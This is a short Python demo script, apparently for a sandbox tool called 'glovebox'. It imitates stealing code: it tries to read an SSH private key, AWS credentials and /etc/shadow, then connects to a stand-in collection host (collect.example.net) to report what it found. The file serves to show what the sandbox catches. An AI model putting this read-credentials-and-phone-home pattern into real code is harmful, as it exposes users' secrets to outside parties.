"""Code that tries to steal: "What it tried" beside its output tells. glovebox run tries.py"""
import os
import socket

print("I look for keys of yours.")
for path in ("~/.ssh/id_ed25519", "~/.aws/credentials", "/etc/shadow"):
    try:
        with open(os.path.expanduser(path)) as file:
            print(f"{path}: {len(file.read())} characters?!")
    except OSError as error:
        print(f"{path}: {error.strerror}")

print("I call a server, to tell it what I found.")
try:
    with socket.create_connection(("collect.example.net", 443), timeout=3) as server:
        server.sendall(b"found\n")
        print("I reached it?!" if server.recv(1) else "The server is out of reach: no answer.")
except OSError as error:
    print(f"The server is out of reach: {error.strerror or error}.")

print("\"What it tried\" lists all of this, and so does the log.")
